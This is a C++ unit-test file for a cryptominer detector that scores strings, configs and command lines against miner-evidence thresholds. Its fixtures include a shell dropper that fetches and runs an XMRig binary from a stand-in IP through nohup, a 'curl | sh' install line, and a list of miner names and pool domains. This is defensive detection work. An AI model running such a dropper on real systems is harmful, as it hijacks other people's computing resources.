// The weighted-evidence model against the design targets: miners score >= 10 from >= 2 groups,
// things that merely mention mining stay below 5.
#include <gtest/gtest.h>

#include <random>

#include "indicator_test_support.hpp"
#include "indicators/scoring.hpp"

namespace mg::indicators {
namespace {

using testing::builtin;
using testing::ids_of;
using testing::make_monero_address;

constexpr int kMinerScore = 10;   // image_rules.hpp thresholds, restated: this suite pins the catalog
constexpr int kMinerGroups = 2;
constexpr int kSuspicious = 5;

Assessment assess_text(const std::string& text, std::vector<Hit>* hits_out = nullptr) {
  auto catalog = builtin();
  auto scanner = Scanner::create(catalog);
  EXPECT_TRUE(scanner);
  auto hits = scanner->scan(text);
  if (hits_out) *hits_out = hits;
  return assess(*catalog, hits);
}

std::string binary_with(std::initializer_list<std::string_view> strings) {
  std::mt19937_64 rng(99);
  std::string out;
  for (auto s : strings) {
    for (int i = 0; i < 300; ++i) out += static_cast<char>(rng() % 200 + 1);  // code-like noise
    out += '\0';
    out += s;
    out += '\0';
  }
  return out;
}

TEST(Scoring, GenuineMinerBinary) {
  // What an XMRig build carries: option table, usage text, algorithm names, RandomX salt, a pool URL.
  const std::string binary = binary_with({"donate-level", "cpu-max-threads-hint", "randomx-mode", "URL of mining server",
                                          "rx/0", "cn/r", "stratum+tcp://", std::string_view("RandomX\3", 8), "xmrig.com",
                                          "mining.subscribe", "XMRig"});
  std::vector<Hit> hits;
  const auto a = assess_text(binary, &hits);
  EXPECT_GE(a.score, kMinerScore) << ids_of(*builtin(), hits);
  EXPECT_GE(a.groups, kMinerGroups);
}

TEST(Scoring, StrippedMinerWithoutItsName) {
  // Renamed and without banner: the option table and the algorithm are still there.
  const std::string binary = binary_with({"donate-level", "randomx-init", "rx/0", std::string_view("RandomX\3", 8)});
  const auto a = assess_text(binary);
  EXPECT_GE(a.score, kMinerScore);
  EXPECT_GE(a.groups, kMinerGroups);
}

TEST(Scoring, MinerConfigFile) {
  std::mt19937_64 rng(1);
  const std::string config = R"({
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "max-threads-hint": 75},
    "pools": [ { "url": "pool.supportxmr.com:443", "user": ")" +
                             make_monero_address(rng, 18, false) + R"(", "pass": "x", "tls": true } ]
  })";
  std::vector<Hit> hits;
  const auto a = assess_text(config, &hits);
  EXPECT_GE(a.score, kMinerScore) << ids_of(*builtin(), hits);
  EXPECT_GE(a.groups, kMinerGroups);
}

TEST(Scoring, DropperScript) {
  std::mt19937_64 rng(2);
  const std::string script = "#!/bin/sh\ncd /tmp\nwget -q http://203.0.113.7/xmrig -O .x || curl -so .x http://203.0.113.7/xmrig\n"
                             "chmod +x .x && nohup ./.x -o pool.minexmr.com:4444 -u " +
                             make_monero_address(rng, 18, false) + " -p x >/dev/null 2>&1 &\n";
  std::vector<Hit> hits;
  const auto a = assess_text(script, &hits);
  EXPECT_GE(a.score, kMinerScore) << ids_of(*builtin(), hits);
  EXPECT_GE(a.groups, kMinerGroups);
}

TEST(Scoring, KubeflowStyleCommandLine) {
  std::mt19937_64 rng(3);
  const std::string argv = "./xmrig -o stratum+tcp://pool.example.net:3333 -u " + make_monero_address(rng, 42, false) +
                           " --donate-level=1 -a rx/0";
  const auto a = assess_text(argv);
  EXPECT_GE(a.score, kMinerScore);
  EXPECT_GE(a.groups, kMinerGroups);
}

TEST(Scoring, MentionsStayBelowSuspicious) {
  for (const std::string& text :
       {binary_with({"stratum"}), binary_with({"the stratum layer of the network"}), binary_with({"UPX!"}),
        binary_with({"kawpow"}), binary_with({"ethash"}), binary_with({"cryptonight"}), binary_with({"stratum+tcp://"}),
        binary_with({"eth_submitWork", "eth_submitHashrate", "ethash"}), binary_with({"rx/0"}),
        std::string("curl -fsSL https://get.example.com | sh\nchmod +x ./install && ./install\n"),
        std::string("sysctl -w vm.nr_hugepages=1280\n"), std::string("ports: [3333, 4444, 5555, 8080]\n")}) {
    std::vector<Hit> hits;
    const auto a = assess_text(text, &hits);
    EXPECT_LT(a.score, kSuspicious) << ids_of(*builtin(), hits);
  }
}

TEST(Scoring, ADetectionRuleListIsNotAMiner) {
  // A Falco-style list of miner names and pool domains names twenty miners: that is one group each.
  const std::string rules = "- list: miner_binaries\n  items: [xmrig, xmr-stak, minerd, cpuminer, ccminer, ethminer, "
                            "nbminer, t-rex, lolminer, phoenixminer, teamredminer, nanominer, srbminer]\n"
                            "- list: miner_domains\n  items: [pool.supportxmr.com, xmr.nanopool.org, eu1.ethermine.org]\n";
  const auto a = assess_text(rules);
  EXPECT_LT(a.score, kMinerScore);
}

TEST(Scoring, AnArticleAboutMiningIsNotAMiner) {
  const auto a = assess_text("XMRig mines CryptoNight and RandomX; most people point it at pool.supportxmr.com.\n");
  EXPECT_LT(a.score, kMinerScore);
}

TEST(Scoring, StrongestPerGroupAndPortsNeverCount) {
  auto catalog = testing::compile_yaml(R"(
- {id: a.strong, kind: string, pattern: "A1", weight: 6, group: a, why: w, source: s}
- {id: a.weak, kind: string, pattern: "A2", weight: 2, group: a, why: w, source: s}
- {id: b.one, kind: string, pattern: "B1", weight: 3, group: b, why: w, source: s}
- {id: p.1, kind: port, pattern: "3333", weight: 0, group: port, why: w, source: s}
- {id: p.2, kind: port, pattern: "4444", weight: 5, group: port2, why: w, source: s}
)");
  ASSERT_NE(catalog, nullptr);
  const std::vector<Hit> hits{{1, 0, "A2"}, {0, 5, "A1"}, {2, 9, "B1"}, {3, 0, "3333"}, {4, 0, "4444"}, {99, 0, "?"}};
  const auto a = assess(*catalog, hits);
  EXPECT_EQ(a.score, 9);
  EXPECT_EQ(a.groups, 2);
  ASSERT_EQ(a.strongest.size(), 2u);
  EXPECT_EQ(a.strongest[0].indicator, 0u);
  EXPECT_EQ(a.strongest[1].indicator, 2u);
  EXPECT_EQ(assess(*catalog, {}).score, 0);
}

}  // namespace
}  // namespace mg::indicators
